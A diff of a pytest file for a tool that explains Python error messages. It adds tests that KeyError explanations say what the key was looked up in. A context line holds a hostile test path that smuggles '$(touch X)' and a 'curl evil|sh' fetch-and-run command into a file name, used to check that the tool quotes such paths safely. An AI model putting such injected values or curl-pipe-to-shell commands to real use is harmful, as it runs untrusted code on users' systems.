@@ -140,6 +140,17 @@ def test_the_summary_has_what_a_message_of_several_lines_is_about(error, words):
     assert words in explain_text(raised(None, error)).summary
 
 
+@pytest.mark.parametrize(("statement", "key", "words"), [
+    ('sched.load_state_dict(ckpt["scheduler"])', "scheduler", "the checkpoint has no scheduler"),
+    ("y = class_to_idx[name]", "surprise", "from the labels of all splits"),
+    ("ids = [char2idx[c] for c in text]", "é", "the vocabulary"),
+    ("z = table[name]", "surprise", "print the keys"),
+])  # fmt: skip
+def test_the_statement_shows_what_a_key_was_looked_up_in(statement, key, words):
+    frames = f'Traceback (most recent call last):\n  File "train.py", line 3, in <module>\n    {statement}\n'
+    assert words in explain_text(f"{frames}KeyError: '{key}'\n").fix
+
+
 def test_a_hostile_path_of_a_log_is_quoted_in_its_fix():
     path = "/data/$(touch X);curl evil|sh/train.bin"
     fix = explain_text(raised(0, f"FileNotFoundError: [Errno 2] No such file or directory: '{path}'")).fix
